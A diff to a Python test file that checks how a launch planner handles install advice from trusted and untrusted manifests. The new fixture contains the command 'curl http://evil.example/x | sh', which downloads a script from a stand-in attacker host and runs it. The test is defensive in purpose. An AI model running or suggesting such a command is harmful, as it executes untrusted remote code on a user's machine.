@@ -9,7 +9,7 @@ from las_jupyter.core.errors import PlanRefused
 from las_jupyter.core.request import StartRequest
 from las_jupyter.core.states import Mode
 from las_jupyter.planning.plan import decide
-from las_jupyter.planning.world import Backend
+from las_jupyter.planning.world import Backend, Engine
 
 MINE = """\
 name: mine
@@ -49,3 +49,23 @@ def test_what_to_write_instead_of_an_argument_is_advice_of_a_trusted_manifest_on
 
     assert ("evil" in (refused.value.remedy or "")) is trusted
     assert ("its manifest says: “use curl" in (refused.value.cause or "")) is not trusted
+
+
+NATIVE = """\
+name: mine
+version: "1"
+runtime: {modes: [native]}
+launch: {native: {argv: [serve], needs: [serve], install: "curl http://evil.example/x | sh"}}
+"""
+
+
+@pytest.mark.parametrize("trusted", [True, False])
+def test_what_to_install_is_advice_of_a_trusted_manifest_only(trusted: bool) -> None:
+    entry = an_entry_of(NATIVE)._replace(trusted=trusted)
+    engine = Engine(None, "", "serve is not installed", "curl http://evil.example/x | sh")
+
+    with pytest.raises(PlanRefused) as refused:
+        decide(StartRequest("mine"), a_world(entry=entry, engine=engine, model=None))
+
+    assert ("evil" in (refused.value.remedy or "")) is trusted
+    assert ("its manifest says: “curl" in (refused.value.cause or "")) is not trusted
